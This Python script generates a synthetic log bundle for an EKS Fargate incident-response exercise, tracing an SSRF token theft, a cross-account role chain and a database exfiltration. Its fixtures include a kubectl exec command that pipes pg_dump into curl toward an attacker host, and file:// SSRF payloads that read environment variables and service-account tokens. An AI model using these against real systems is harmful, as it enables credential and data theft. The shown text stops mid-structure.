#!/usr/bin/env python3
"""Writes the EKS Fargate fleet scenario bundle (bundle/ next to this script); README.md tells the story, the known
answers and each file's provenance. Deterministic: same bytes on every run (gzip members carry mtime 0 and no name).
Everything is an object of the SOC's log bucket (bundle/s3/<key>), pulled by `strata pull-s3`: there is no node access
on Fargate, and the responders collected nothing by hand but two exports they wrote into the same bucket.
Run: python3 make_fargate_scenario.py"""
import json, os, shutil, sys

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "bundle")
DAY = "2026-11-23"

sys.dont_write_bytecode = True  # no __pycache__ among the test resources
sys.path.insert(0, os.path.dirname(HERE))
from bundle_files import BundleFiles, CloudTrailLog  # noqa: E402 (beside the scenarios)
_files = BundleFiles(DAY, OUT)
ts, tus, tsec, write, jl, epoch = _files.ts, _files.tus, _files.tsec, _files.write, _files.jl, _files.epoch

# ------------------------------------------------------------------------------------------------------ entities
ORG = "o-k7w3p9x2qd"                  # the organization trail's org id (AWSLogs/<org>/<account>/CloudTrail/...)
REGION = "us-east-2"
# account A: the storefront's EKS cluster, Fargate only (each pod its own micro-VM and ENI; node = fargate-ip-<addr>)
ACCT = "662607015034"
CLUSTER = "storefront-fargate"
VPC = "vpc-0a77f1e2d3c4b5a69"
OIDC = "arn:aws:iam::%s:oidc-provider/oidc.eks.us-east-2.amazonaws.com/id/5EED77A1B2C3D4E5F60718293A4B5C6D" % ACCT
ECR = "%s.dkr.ecr.%s.amazonaws.com" % (ACCT, REGION)
ALB_IP = "10.77.0.45"                 # the internet-facing ALB's address in the pods' subnet (IP targets)
REDIS_IP = "10.77.60.12"              # ElastiCache
# the exposed thumbnailer: an HTML-to-image renderer (wkhtmltopdf, CVE-2022-35583: SSRF, file:// reads)
NS, SA = "media", "thumbnailer"
APP = "thumbnailer-6d9f7c5b8-r4t7x"
APP_UID = "3f6a9c2e-5b8d-4e1f-a7c4-6e9b2d5f8a13"
APP_IP = "10.77.21.137"
APP_NODE = "fargate-ip-10-77-21-137.us-east-2.compute.internal"
APP_ENI = "eni-0f7a2c4e6b8d01357"
APP_CID = "b7e3" + "1c" * 30
IMAGE = ECR + "/media/thumbnailer:2.4.1"
DIGEST = "sha256:" + "4e1a9d7c" * 8
IMAGE_ID = "sha256:" + "a0c7e5f3" * 8
IRSA_ROLE_NAME = "thumbnailer-irsa"
IRSA_ROLE = "arn:aws:iam::%s:role/%s" % (ACCT, IRSA_ROLE_NAME)
POD_SESSION_NAME = "botocore-session-1795502440"
POD_SESSION = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, IRSA_ROLE_NAME, POD_SESSION_NAME)
POD_SESSION_KEY = "ASIAZTHUMBPOD0000137"
# the attacker: reads the pod's projected IRSA token through the SSRF, exchanges it from its own host
ATTACKER = "198.51.100.61"
CUSTOMER = "192.0.2.213"              # a legitimate client of the thumbnailer
EXFIL = "203.0.113.77"                # where cluster B's data goes
STOLEN_SESSION_NAME = "thumb"
STOLEN_SESSION = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, IRSA_ROLE_NAME, STOLEN_SESSION_NAME)
STOLEN_KEY = "ASIAZTHUMBSTOLEN0061"
# account B: the ledger team's EKS cluster on an EC2 managed node group, the same VPC range (10.77.0.0/16)
ACCT_B = "602214076012"
CLUSTER_B = "ledger-ng"
VPC_B = "vpc-0b77e2d3c4b5a6978"
XROLE_NAME = "ledger-deploy-cross"
XROLE = "arn:aws:iam::%s:role/%s" % (ACCT_B, XROLE_NAME)
XSESSION_NAME = "thumbnailer-sync"
XSESSION = "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT_B, XROLE_NAME, XSESSION_NAME)
XKEY = "ASIAZLEDGERXACCT0917"
XROLE_ID = "AROAZLEDGERDEPLOYX01"
NODE_B1 = "ip-10-77-34-10.us-east-2.compute.internal"
NODE_B1_IP, INSTANCE_B1, ENI_B1 = "10.77.34.10", "i-0c4e6a8b0d2f41357", "eni-0b34a6c8e0f2d4681"
NODE_B2 = "ip-10-77-21-20.us-east-2.compute.internal"
NODE_B2_IP, INSTANCE_B2, ENI_B2 = "10.77.21.20", "i-0d5f7b9c1e3a52468", "eni-0b21c3e5a7d9f1357"
NAT_B_IP, NAT_B_ENI = "10.77.1.200", "eni-0b01a7c9e1f3b5d70"
LEDGER_DB = "10.77.50.8"
# the pod the attacker execs into, and exfiltrates from
LEDGER_NS = "ledger"
LAPI = "ledger-api-5f8b9c7d6-m2n8q"
LAPI_UID = "7c1e4a9d-2f6b-4d8e-b3a5-1c7e9f2d4b60"
LAPI_IP = "10.77.34.52"
LAPI_CID = "c4d2" + "5e" * 30
# the same vulnerable thumbnailer image, run by the ledger team for statements (where else does this image run?)
SREND = "statement-render-58c7d9b6f-h4j6l"
SREND_UID = "8d2f5b0e-3a7c-4e9f-c4b6-2d8f0a3e5c71"
SREND_IP = "10.77.34.77"
SREND_CID = "d5e3" + "6f" * 30
# bystanders: B's report builder holds A's thumbnailer address (10.77.21.137) all day; A's cache-warmer CronJob pod
# gets the thumbnailer's address (and so the same Fargate node name) after the thumbnailer is replaced
REPORTS_NS = "reports"
RB = "report-builder-7b6c5d4e3-w9z1k"
RB_UID = "9e3a6c1f-4b8d-4fa0-d5c7-3e9a1b4f6d82"
RB_IP = APP_IP
RB_CID = "e6f4" + "7a" * 30
WARM = "cache-warmer-29400600-p8k3d"
WARM_UID = "0f4b7d2a-5c9e-4a1b-e6d8-4f0b2c5a7e93"
WARM_IP = APP_IP
WARM_NODE = APP_NODE                  # Fargate names the node after the pod's address: the same name, another VM
WARM_ENI = "eni-0f7a3d5f7c9e12468"
WARM_CID = "f7a5" + "8b" * 30
APP2 = "thumbnailer-7b4c9e2d1-k2m5n"  # the patched rollout's pod
APP2_UID = "1a5c8e3b-6d0f-4b2c-f7e9-5a1c3d6b8f04"
APP2_IP = "10.77.22.41"
APP2_NODE = "fargate-ip-10-77-22-41.us-east-2.compute.internal"
APP2_ENI = "eni-0f7a4e6a8d0f23579"
APP2_CID = "a8b6" + "9c" * 30
DIGEST2 = "sha256:" + "5f2b0e8d" * 8
FRONT = "frontdoor-6c8d9e7f5-q1w2e"  # a long-running Fargate pod, bystander
FRONT_UID = "2b6d9f4c-7e1a-4c3d-a8f0-6b2d4e7c9a15"
FRONT_IP, FRONT_NODE, FRONT_ENI = "10.77.20.15", "fargate-ip-10-77-20-15.us-east-2.compute.internal", "eni-0f7a1b3c5d7e9f024"
FRONT_CID = "c9d7" + "0d" * 30

KCM = "kube-controller-manager/v1.31.4 (linux/amd64) kubernetes/a78aa47/system:serviceaccount:kube-system:"
KUBELET_UA = "kubelet/v1.31.4 (linux/amd64) kubernetes/a78aa47"


# ---------------------------------------------------------------------------- Kubernetes audit (EKS's policy)
class Audit:
    def __init__(self, prefix):
        self.prefix, self.n = prefix, 0

    def event(self, t, us, verb, uri, user, groups, source_ip, obj_ref, level="Metadata", code=200, ua=KUBELET_UA,
              extra=None, uid=None, request=None, response=None):
        self.n += 1
        u = {"username": user}
        if uid:
            u["uid"] = uid
        u["groups"] = groups
        if extra:
            u["extra"] = extra
        e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level,
             "auditID": "%s-%04x-4%03x-8c00-%012d" % (self.prefix, self.n, self.n, self.n), "stage": "ResponseComplete",
             "requestURI": uri, "verb": verb, "user": u, "sourceIPs": [source_ip], "userAgent": ua, "objectRef": obj_ref,
             "responseStatus": {"metadata": {}, "code": code}}
        if request is not None:
            e["requestObject"] = request
        if response is not None:
            e["responseObject"] = response
        e.update({"requestReceivedTimestamp": tus(t, us), "stageTimestamp": tus(t, us + 4210),
                  "annotations": {"authorization.k8s.io/decision": "allow",
                                  "authorization.k8s.io/reason": "" if verb == "patch" else "EKS Access Policy"}})
        if verb == "patch":
            e["annotations"]["authorization.k8s.io/reason"] = ""
        return e


def pod_ref(name, ns, sub=None):
    r = {"resource": "pods", "namespace": ns, "apiVersion": "v1"}
    if name:
        r["name"] = name
    if sub:
        r["subresource"] = sub
    return r


def node_user(node):
    return "system:node:" + node, ["system:bootstrappers", "system:nodes", "system:authenticated"]


def status_patch(audit, t, us, node, node_ip, ns, pod, uid, ip, image, digest, cid, cname, started, phase="Running",
                 finished=None):
    """The kubelet's strategic-merge patch of pods/status, logged at Request level (EKS's policy, like kube-up's, logs
    the nodes' nodes/status and pods/status updates with their request body): the pod's address, its node's address,
    its container with the image digest it runs."""
    if finished:
        state = {"terminated": {"exitCode": 0, "reason": "Completed", "startedAt": tsec(started),
                                "finishedAt": tsec(finished), "containerID": "containerd://" + cid}}
    else:
        state = {"running": {"startedAt": tsec(started)}}
    status = {"$setElementOrder/conditions": [{"type": t_} for t_ in
                                               ("PodReadyToStartContainers", "Initialized", "Ready", "ContainersReady",
                                                "PodScheduled")],
              "conditions": [{"lastTransitionTime": tsec(started), "status": "True" if not finished else "False",
                              "type": "Ready"}],
              "containerStatuses": [{"containerID": "containerd://" + cid, "image": image,
                                     "imageID": image.rsplit(":", 1)[0] + "@" + digest, "lastState": {}, "name": cname,
                                     "ready": not finished, "restartCount": 0, "started": not finished,
                                     "state": state}],
              "hostIP": node_ip, "hostIPs": [{"ip": node_ip}], "phase": phase, "podIP": ip, "podIPs": [{"ip": ip}],
              "startTime": tsec(started)}
    user, groups = node_user(node)
    return audit.event(t, us, "patch", "/api/v1/namespaces/%s/pods/%s/status?fieldManager=kubelet" % (ns, pod), user,
                       groups, node_ip, pod_ref(pod, ns, "status"), level="Request",
                       request={"metadata": {"uid": uid}, "status": status})


def pod_create(audit, t, us, ns, pod, uid, sa, image, role=None, fargate=True, who="replicaset-controller"):
    """The ReplicaSet's / Job's create, at RequestResponse (EKS's policy logs pod writes with their bodies): the
    service account, the image, the IRSA webhook's AWS_ROLE_ARN, the Fargate scheduler."""
    env = []
    if role:
        env = [{"name": "AWS_STS_REGIONAL_ENDPOINTS", "value": "regional"}, {"name": "AWS_ROLE_ARN", "value": role},
               {"name": "AWS_WEB_IDENTITY_TOKEN_FILE",
                "value": "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"}]
    spec = {"serviceAccountName": sa, "serviceAccount": sa,
            "containers": [{"name": pod.rsplit("-", 2)[0] if "-" in pod else pod, "image": image, "env": env,
                            "ports": [{"containerPort": 8080, "protocol": "TCP"}]}],
            "restartPolicy": "Always", "schedulerName": "fargate-scheduler" if fargate else "default-scheduler",
            "enableServiceLinks": True, "priority": 2000001000 if fargate else 0}
    obj = {"kind": "Pod", "apiVersion": "v1",
           "metadata": {"name": pod, "namespace": ns, "uid": uid, "creationTimestamp": tsec(t),
                        "labels": {"app": pod.rsplit("-", 2)[0], "eks.amazonaws.com/fargate-profile": "fp-" + ns}
                        if fargate else {"app": pod.rsplit("-", 2)[0]}},
           "spec": spec, "status": {"phase": "Pending", "qosClass": "Burstable"}}
    return audit.event(t, us, "create", "/api/v1/namespaces/%s/pods" % ns, "system:serviceaccount:kube-system:" + who,
                       ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
                       "10.77.0.9" if fargate else "10.77.0.10", pod_ref(pod, ns), level="RequestResponse", code=201,
                       ua=KCM + who, response=obj)


def audit_a():
    a = Audit("5fa7e0c1")
    rs = ("system:serviceaccount:kube-system:replicaset-controller",
          ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"])
    return [
        status_patch(a, "07:02:11", 120004, FRONT_NODE, FRONT_IP, NS, FRONT, FRONT_UID, FRONT_IP, ECR + "/media/frontdoor:1.9.0",
                     "sha256:" + "6a3c1f0e" * 8, FRONT_CID, "frontdoor", "07:01:58"),
        pod_create(a, "08:39:12", 310550, NS, APP, APP_UID, SA, IMAGE, IRSA_ROLE),
        status_patch(a, "08:40:31", 508112, APP_NODE, APP_IP, NS, APP, APP_UID, APP_IP, IMAGE, DIGEST, APP_CID, "thumbnailer",
                     "08:40:29"),
        # the patched image's rollout replaces the thumbnailer: the old pod is deleted, its micro-VM and ENI with it
        pod_create(a, "09:39:40", 220187, NS, APP2, APP2_UID, SA, ECR + "/media/thumbnailer:2.4.2", IRSA_ROLE),
        status_patch(a, "09:40:22", 731009, APP2_NODE, APP2_IP, NS, APP2, APP2_UID, APP2_IP, ECR + "/media/thumbnailer:2.4.2",
                     DIGEST2, APP2_CID, "thumbnailer", "09:40:20"),
        a.event("09:40:31", 90412, "delete", "/api/v1/namespaces/%s/pods/%s" % (NS, APP), rs[0], rs[1], "10.77.0.9",
                pod_ref(APP, NS), ua=KCM + "replicaset-controller"),
        # a CronJob's pod on a new micro-VM that Fargate gives the thumbnailer's old address, and so its node's name
        pod_create(a, "09:51:00", 40331, NS, WARM, WARM_UID, "cache-warmer", ECR + "/media/cache-warmer:1.2.0",
                   who="job-controller"),
        status_patch(a, "09:52:10", 602390, WARM_NODE, WARM_IP, NS, WARM, WARM_UID, WARM_IP, ECR + "/media/cache-warmer:1.2.0",
                     "sha256:" + "7b4d2a1f" * 8, WARM_CID, "cache-warmer", "09:52:08"),
        status_patch(a, "09:58:41", 118250, WARM_NODE, WARM_IP, NS, WARM, WARM_UID, WARM_IP, ECR + "/media/cache-warmer:1.2.0",
                     "sha256:" + "7b4d2a1f" * 8, WARM_CID, "cache-warmer", "09:52:08", phase="Succeeded", finished="09:58:39"),
    ]


def audit_b():
    b = Audit("6eb8f1d2")
    iam_user = {"username": XSESSION, "uid": "aws-iam-authenticator:%s:%s" % (ACCT_B, XROLE_ID)}
    extra = {"accessKeyId": [XKEY], "arn": [XSESSION], "canonicalArn": [XROLE], "principalId": [XROLE_ID],
             "sessionName": [XSESSION_NAME], "sigs.k8s.io/aws-iam-authenticator/principalId": [XROLE_ID]}
    groups = ["ledger:deployers", "system:authenticated"]
    kubectl = "kubectl/v1.31.3 (linux/amd64) kubernetes/c83cbee"
    exec_uri = ("/api/v1/namespaces/%s/pods/%s/exec?command=sh&command=-c&command=pg_dump+-h+%s+ledger+%%7C+gzip+%%7C+"
                "curl+-sk+-T+-+https%%3A%%2F%%2F%s%%2Fu&container=api&stderr=true&stdout=true" % (LEDGER_NS, LAPI, LEDGER_DB, EXFIL))
    return [
        status_patch(b, "07:10:44", 301201, NODE_B1, NODE_B1_IP, LEDGER_NS, LAPI, LAPI_UID, LAPI_IP,
                     "%s.dkr.ecr.%s.amazonaws.com/ledger/api:5.0.3" % (ACCT_B, REGION), "sha256:" + "8c5e3b2a" * 8, LAPI_CID,
                     "api", "07:10:40"),
        status_patch(b, "07:12:05", 77120, NODE_B2, NODE_B2_IP, REPORTS_NS, RB, RB_UID, RB_IP,
                     "%s.dkr.ecr.%s.amazonaws.com/reports/builder:3.3.0" % (ACCT_B, REGION), "sha256:" + "9d6f4c3b" * 8,
                     RB_CID, "builder", "07:12:01"),
        # the ledger team's statements run the storefront's thumbnailer image (pulled across accounts from A's ECR)
        status_patch(b, "07:15:30", 440982, NODE_B1, NODE_B1_IP, LEDGER_NS, SREND, SREND_UID, SREND_IP, IMAGE, DIGEST,
                     SREND_CID, "thumbnailer", "07:15:27"),
        # the chained session, through EKS access entries (aws-iam-authenticator's identity), from the attacker's host
        b.event("09:12:30", 551840, "list", "/api/v1/namespaces/%s/pods?limit=500" % LEDGER_NS, iam_user["username"], groups,
                ATTACKER, pod_ref(None, LEDGER_NS), ua=kubectl, extra=extra, uid=iam_user["uid"]),
        b.event("09:13:05", 208113, "create", exec_uri, iam_user["username"], groups, ATTACKER, pod_ref(LAPI, LEDGER_NS, "exec"),
                code=101, ua=kubectl, extra=extra, uid=iam_user["uid"]),
    ]


# ------------------------------------------------------------ CloudWatch Logs export task to S3 (create-export-task)
def export_lines(events):
    """An export task's object: one line per log event, `<ISO-8601 ms timestamp> <message>` (gzip'd by CloudWatch Logs)."""
    return "".join("%s %s\n" % (t, m) for t, m in events)


def audit_export(events):
    return export_lines([(e["requestReceivedTimestamp"][:23] + "Z", json.dumps(e, separators=(",", ":"))) for e in events])


def fluent_bit(t, ms, ns, pod, uid, node, cname, cid, image, digest, line, stream="stdout"):
    """A container's line as Fluent Bit on Fargate (the built-in log router, aws-observability's ConfigMap with the
    kubernetes filter) ships it to CloudWatch Logs: the CRI parser's fields and the `kubernetes` block."""
    rec = {"log": line, "stream": stream, "logtag": "F", "time": ts(t, ms * 1000000),
           "kubernetes": {"pod_name": pod, "namespace_name": ns, "pod_id": uid, "host": node, "container_name": cname,
                          "docker_id": cid, "container_hash": image.rsplit(":", 1)[0] + "@" + digest,
                          "container_image": image}}
    return ("%s.%03dZ" % (DAY + "T" + t, ms), json.dumps(rec, separators=(",", ":")))


def app_logs():
    fb = lambda t, ms, line: fluent_bit(t, ms, NS, APP, APP_UID, APP_NODE, "thumbnailer", APP_CID, IMAGE, DIGEST, line)
    acc = lambda t, ms, req, status, size, xff, ua: fb(
        t, ms, '%s - - [23/Nov/2026:%s +0000] "%s HTTP/1.1" %d %d "-" "%s" "%s"' % (ALB_IP, t, req, status, size, ua, xff))
    browser = "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15"
    thumb = [
        fb("08:40:33", 12, "thumbnailer 2.4.1 listening on :8080 (wkhtmltoimage 0.12.6)"),
        acc("08:58:10", 410, "GET /render?src=https%3A%2F%2Fcdn.example.com%2Fp%2F88213.html&w=320", 200, 18220, CUSTOMER, browser),
        # CVE-2022-35583: the renderer follows file:// URLs -- the environment (AWS_ROLE_ARN), then IRSA's token
        acc("09:05:12", 301, "GET /render?src=file%3A%2F%2F%2Fproc%2Fself%2Fenviron&w=1200", 200, 2291, ATTACKER,
            "python-requests/2.32.3"),
        acc("09:05:41", 77, "GET /render?src=file%3A%2F%2F%2Fvar%2Frun%2Fsecrets%2Feks.amazonaws.com%2Fserviceaccount%2Ftoken&w=1200",
            200, 3410, ATTACKER, "python-requests/2.32.3"),
        fb("09:05:41", 80, "WARN render: source scheme file:// used by request 5c1e (allowed by --enable-local-file-access)"),
    ]
    warm = [fluent_bit("09:52:31", 5, NS, WARM, WARM_UID, WARM_NODE, "cache-warmer", WARM_CID, ECR + "/media/cache-warmer:1.2.0",
                       "sha256:" + "7b4d2a1f" * 8, "warming 4120 keys from catalog snapshot 2026-11-23T09:50Z")]
    stream = lambda pod, ns, cname, cid: "from-fluent-bit-kube.var.log.containers.%s_%s_%s-%s.log" % (pod, ns, cname, cid)
    return {stream(APP, NS, "thumbnailer", APP_CID): thumb, stream(WARM, NS, "cache-warmer", WARM_CID): warm}


# ------------------------------------------------------------------------------------------------------ CloudTrail
def cloudtrail():
    ct = CloudTrailLog(_files, REGION, "1.11", "2c9e%04d-7a1b-4e3d-9f0a-%012d", "e4b6%04d-1c3d-4f5a-8b7c-%012d", tls=False)

    def rec(acct, t, source, name, ip, ua, req, resp, identity, ro=True, extra=None):
        return ct.record(acct, t, identity, source, name, ip, ua, req, resp, ro=ro, extra=extra)
    web_identity = {"type": "WebIdentityUser", "principalId": OIDC + ":sts.amazonaws.com:system:serviceaccount:%s:%s" % (NS, SA),
                    "userName": "system:serviceaccount:%s:%s" % (NS, SA), "identityProvider": OIDC}

    def irsa_session(name, key, created):
        return {"type": "AssumedRole", "principalId": "AROAZTHUMBNAILIRSA01:" + name,
                "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, IRSA_ROLE_NAME, name), "accountId": ACCT,
                "accessKeyId": key,
                "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": "AROAZTHUMBNAILIRSA01", "arn": IRSA_ROLE,
                                                     "accountId": ACCT, "userName": IRSA_ROLE_NAME},
                                   "webIdFederationData": {"federatedProvider": OIDC, "attributes": {}},
                                   "attributes": {"creationDate": DAY + "T" + created + "Z", "mfaAuthenticated": "false"}}}
    stolen = irsa_session(STOLEN_SESSION_NAME, STOLEN_KEY, "09:07:02")
    xsession = {"type": "AssumedRole", "principalId": XROLE_ID + ":" + XSESSION_NAME, "arn": XSESSION, "accountId": ACCT_B,
                "accessKeyId": XKEY,
                "sessionContext": {"sessionIssuer": {"type": "Role", "principalId": XROLE_ID, "arn": XROLE, "accountId": ACCT_B,
                                                     "userName": XROLE_NAME},
                                   "attributes": {"creationDate": DAY + "T09:09:30Z", "mfaAuthenticated": "false"}}}
    boto = "Boto3/1.35.71 md/Botocore#1.35.71 ua/2.0 os/linux#5.10.228-219.884.amzn2.x86_64 md/arch#x86_64 lang/python#3.11.10 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.35.71"
    cli = "aws-cli/2.22.12 md/awscrt#0.23.4 ua/2.0 os/linux#6.11.2-amd64 md/arch#x86_64 lang/python#3.12.7 md/pyimpl#CPython md/installer#exe md/distrib#kali.2024 md/prompt#off md/command#"

    def web_identity_call(t, ip, ua, name, key, vpce):
        resp = {"credentials": {"accessKeyId": key, "sessionToken": "redacted",
                                "expiration": "Nov 23, 2026, %s AM" % ("10" + t[2:] if t < "10" else t)},
                "subjectFromWebIdentityToken": "system:serviceaccount:%s:%s" % (NS, SA),
                "assumedRoleUser": {"assumedRoleId": "AROAZTHUMBNAILIRSA01:" + name,
                                    "arn": "arn:aws:sts::%s:assumed-role/%s/%s" % (ACCT, IRSA_ROLE_NAME, name)},
                "provider": OIDC, "audience": "sts.amazonaws.com"}
        extra = {"resources": [{"accountId": ACCT, "type": "AWS::IAM::Role", "ARN": IRSA_ROLE}]}
        if vpce:
            extra["vpcEndpointId"] = vpce
        return rec(ACCT, t, "sts.amazonaws.com", "AssumeRoleWithWebIdentity", ip, ua,
                   {"roleArn": IRSA_ROLE, "roleSessionName": name, "durationSeconds": 3600}, resp, web_identity, extra=extra)
    assume_req = {"roleArn": XROLE, "roleSessionName": XSESSION_NAME, "durationSeconds": 3600}
    assume_resp = {"credentials": {"accessKeyId": XKEY, "sessionToken": "redacted", "expiration": "Nov 23, 2026, 10:09:30 AM"},
                   "assumedRoleUser": {"assumedRoleId": XROLE_ID + ":" + XSESSION_NAME, "arn": XSESSION}}
    shared = {"sharedEventID": "0d8f3b6a-4c2e-4a1f-9b7d-5e3c1a9f7b20",
              "resources": [{"accountId": ACCT_B, "type": "AWS::IAM::Role", "ARN": XROLE}]}
    a = [
        # the thumbnailer's SDK at its start, from its own address, through the STS interface endpoint
        web_identity_call("08:40:40", APP_IP, boto, POD_SESSION_NAME, POD_SESSION_KEY, "vpce-0a77sts00000000a1"),
        # the token read through the SSRF, exchanged from the attacker's host
        web_identity_call("09:07:02", ATTACKER, cli + "sts.assume-role-with-web-identity", STOLEN_SESSION_NAME, STOLEN_KEY, None),
        rec(ACCT, "09:08:15", "sts.amazonaws.com", "GetCallerIdentity", ATTACKER, cli + "sts.get-caller-identity", None, None,
            stolen),
        rec(ACCT, "09:08:49", "iam.amazonaws.com", "ListAttachedRolePolicies", ATTACKER, cli + "iam.list-attached-role-policies",
            {"roleName": IRSA_ROLE_NAME}, None, stolen, extra={"awsRegion": "us-east-1"}),
        # the cross-account AssumeRole, as the caller's account logs it
        rec(ACCT, "09:09:30", "sts.amazonaws.com", "AssumeRole", ATTACKER, cli + "sts.assume-role", assume_req, assume_resp,
            stolen, extra=dict(shared)),
    ]
    b = [
        # ... and as the role's account logs it: the caller is only another account's principal
        rec(ACCT_B, "09:09:30", "sts.amazonaws.com", "AssumeRole", ATTACKER, cli + "sts.assume-role", assume_req, assume_resp,
            {"type": "AWSAccount", "principalId": "AROAZTHUMBNAILIRSA01:" + STOLEN_SESSION_NAME, "accountId": ACCT},
            extra=dict(shared)),
        rec(ACCT_B, "09:10:40", "eks.amazonaws.com", "ListClusters", ATTACKER, cli + "eks.list-clusters", None, None, xsession),
        rec(ACCT_B, "09:11:02", "eks.amazonaws.com", "DescribeCluster", ATTACKER, cli + "eks.describe-cluster",
            {"name": CLUSTER_B}, None, xsession),
    ]
    doc = lambda records: json.dumps({"Records": sorted(records, key=lambda r: r["eventTime"])}, separators=(",", ":"))
    # IAM's (global) call is in us-east-1's file of the multi-region organization trail
    return {(ACCT, REGION): doc([r for r in a if r["awsRegion"] == REGION]),
            (ACCT, "us-east-1"): doc([r for r in a if r["awsRegion"] == "us-east-1"]),
            (ACCT_B, REGION): doc(b)}


# ------------------------------------------------------------------------------- VPC Flow Logs (v5 custom, to S3)
FLOW_FIELDS = ("version account-id interface-id srcaddr dstaddr srcport dstport protocol packets bytes start end action "
               "log-status vpc-id subnet-id instance-id tcp-flags type pkt-srcaddr pkt-dstaddr flow-direction traffic-path")


def flow(acct, eni, vpc, subnet, instance, src, dst, sp, dp, pk, by, start, direction, pkt_src=None, pkt_dst=None, path="-"):
    s = int(epoch(start))
    return "5 %s %s %s %s %d %d 6 %d %d %d %d ACCEPT OK %s %s %s 19 IPv4 %s %s %s %s" % (
        acct, eni, src, dst, sp, dp, pk, by, s, s + 59, vpc, subnet, instance or "-", pkt_src or src, pkt_dst or dst,
        direction, path)


def flows_a():
    sub = "subnet-0a77c21d3e4f5a6b7"
    f = lambda eni, src, dst, sp, dp, pk, by, start, d, path="-": flow(ACCT, eni, VPC, sub, None, src, dst, sp, dp, pk, by, start,
                                                                         d, path=path)
    return [FLOW_FIELDS,
            f(FRONT_ENI, FRONT_IP, REDIS_IP, 40112, 6379, 12, 1840, "09:01:00", "egress", "1"),
            # the ALB's connections to the thumbnailer carry the attacker's requests (X-Forwarded-For in the app's log)
            f(APP_ENI, ALB_IP, APP_IP, 31544, 8080, 9, 1630, "09:05:00", "ingress"),
            f(APP_ENI, APP_IP, REDIS_IP, 51022, 6379, 8, 1220, "09:06:00", "egress", "1"),
            f(APP2_ENI, APP2_IP, REDIS_IP, 42810, 6379, 10, 1510, "09:45:00", "egress", "1"),
            # the cache warmer: the thumbnailer's old address, another ENI
            f(WARM_ENI, WARM_IP, REDIS_IP, 39400, 6379, 420, 288300, "09:55:00", "egress", "1")]


def flows_b():
    sub1, sub2, nat_sub = "subnet-0b77c34e5f6a7b8c9", "subnet-0b77c21a2b3c4d5e6", "subnet-0b77c01f1e2d3c4b5"
    return [FLOW_FIELDS,
            # the report builder (A's thumbnailer's address, in B) and its database, before and after the attack
            flow(ACCT_B, ENI_B2, VPC_B, sub2, INSTANCE_B2, RB_IP, LEDGER_DB, 46001, 5432, 30, 9100, "09:06:00", "egress", path="1"),
            flow(ACCT_B, ENI_B2, VPC_B, sub2, INSTANCE_B2, RB_IP, LEDGER_DB, 46388, 5432, 28, 8800, "09:20:00", "egress", path="1"),
            # the exec'd dump: the ledger API pod to the attacker's server, on its node's ENI (external SNAT: the pod's
            # own address leaves the node) and on the NAT gateway's ENI (dstaddr: the gateway; pkt-dstaddr: the server)
            flow(ACCT_B, ENI_B1, VPC_B, sub1, INSTANCE_B1, LAPI_IP, EXFIL, 58122, 443, 131072, 187342112, "09:14:00", "egress",
                 path="8"),
            flow(ACCT_B, NAT_B_ENI, VPC_B, nat_sub, None, LAPI_IP, NAT_B_IP, 58122, 443, 131072, 187342112, "09:14:00", "ingress",
                 pkt_src=LAPI_IP, pkt_dst=EXFIL),
            flow(ACCT_B, NAT_B_ENI, VPC_B, nat_sub, None, NAT_B_IP, EXFIL, 20117, 443, 131072, 187342112, "09:14:00", "egress",
                 path="8")]


# ------------------------------------------------------------------- the responders' exports: ENIs, Trivy scan
def fargate_enis():
    """`aws ec2 describe-network-interfaces --filters Name=vpc-id,Values=<vpc> Name=description,Values='[EKS Fargate]*'`
    at 10:30: the running pods' ENIs only (the thumbnailer's and the warmer's were deleted with their micro-VMs).
    Fargate's ENIs are requester-managed, attached to no instance of the account."""
    def eni(eni_id, ip, attach, desc_pod):
        return {"Attachment": {"AttachTime": tsec(attach), "AttachmentId": "ela-attach-0%s" % eni_id[5:21],
                               "DeleteOnTermination": False, "DeviceIndex": 1, "NetworkCardIndex": 0,
                               "InstanceOwnerId": "amazon-aws", "Status": "attached"},
                "AvailabilityZone": "us-east-2b", "Description": "[EKS Fargate] " + desc_pod, "Groups": [
                    {"GroupName": "eks-cluster-sg-%s-1927384650" % CLUSTER, "GroupId": "sg-0a77e1f2a3b4c5d6e"}],
                "InterfaceType": "interface", "Ipv6Addresses": [], "MacAddress": "02:4f:%s:%s:%s:01" % (ip.split(".")[1],
                    "%02x" % int(ip.split(".")[2]), "%02x" % int(ip.split(".")[3])),
                "NetworkInterfaceId": eni_id, "OwnerId": ACCT,
                "PrivateDnsName": "ip-%s.us-east-2.compute.internal" % ip.replace(".", "-"), "PrivateIpAddress": ip,
                "PrivateIpAddresses": [{"Primary": True, "PrivateDnsName": "ip-%s.us-east-2.compute.internal" % ip.replace(".", "-"),
                                        "PrivateIpAddress": ip}],
                "RequesterId": "462917103541", "RequesterManaged": True, "SourceDestCheck": True, "Status": "in-use",
                "SubnetId": "subnet-0a77c21d3e4f5a6b7", "TagSet": [], "VpcId": VPC}
    return {"NetworkInterfaces": [eni(FRONT_ENI, FRONT_IP, "07:01:31", "%s/%s" % (NS, FRONT)),
                                  eni(APP2_ENI, APP2_IP, "09:39:58", "%s/%s" % (NS, APP2))]}


def trivy_report():
    """`trivy image -f json <image>` (schema 2) of the thumbnailer 2.4.1 image, by the storefront team's CI."""
    return {"SchemaVersion": 2, "CreatedAt": "2026-11-23T10:41:07.551203Z", "ArtifactName": IMAGE,
            "ArtifactType": "container_image",
            "Metadata": {"OS": {"Family": "debian", "Name": "12.8"}, "ImageID": IMAGE_ID, "DiffIDs": [],
                         "RepoTags": [IMAGE], "RepoDigests": [IMAGE.rsplit(":", 1)[0] + "@" + DIGEST],
                         "ImageConfig": {"architecture": "amd64", "os": "linux"}},
            "Results": [{"Target": IMAGE + " (debian 12.8)", "Class": "os-pkgs", "Type": "debian",
                         "Vulnerabilities": [
                             {"VulnerabilityID": "CVE-2022-35583", "PkgID": "wkhtmltopdf@0.12.6-2+b1",
